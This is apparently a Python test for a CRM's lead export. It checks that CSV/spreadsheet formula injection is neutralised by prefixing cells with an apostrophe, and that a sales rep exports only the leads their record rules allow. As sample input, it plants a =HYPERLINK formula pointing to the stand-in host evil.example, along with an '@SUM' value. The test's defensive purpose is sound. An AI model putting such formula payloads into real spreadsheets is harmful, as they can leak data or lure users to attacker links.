"""The desk's own export of leads, called as sao's Export dialog calls it
(export_data_domain), on the running demo site: what a web form or a
WhatsApp profile typed reaches the manager's spreadsheet as text, and a rep
exports only the leads they may read."""
import secrets


def test_desk_export_is_inert_in_a_spreadsheet_and_keeps_the_rules(
        crm_site, manager):
    token = secrets.token_hex(4)
    hostile = f'=HYPERLINK("http://evil.example/?{token}","Click")'
    rep = crm_site.login('rep')
    rep_id, = manager.search('res.user', [('login', '=', 'rep')])
    rep2_id, = manager.search('res.user', [('login', '=', 'rep2')])
    manager.model('crm.lead', 'create', [
            {'name': hostile, 'phone': '+91 98450 11111', 'owner': rep_id},
            {'name': f'@SUM {token}', 'owner': rep2_id,
                'email': f'{token}@example.in'}])
    domain = ['OR', ('name', 'like', f'%{token}%'),
        ('email', 'like', f'{token}%')]
    fields = ['name', 'phone', 'owner/rec_name']

    rows = manager.model('crm.lead', 'export_data_domain', domain, fields,
        0, None, [('name', 'ASC')], True)
    assert rows == [['Contact Name', 'Phone', 'Owner/Record Name'],
        ["'" + hostile, "'+919845011111", "Rahul Verma"],
        [f"'@SUM {token}", '', "Anita Desai"]]
    # A rep's export passes through their record rules: their lead only.
    assert rep.model('crm.lead', 'export_data_domain', domain, fields,
        0, None, None, False) == [
        ["'" + hostile, "'+919845011111", "Rahul Verma"]]
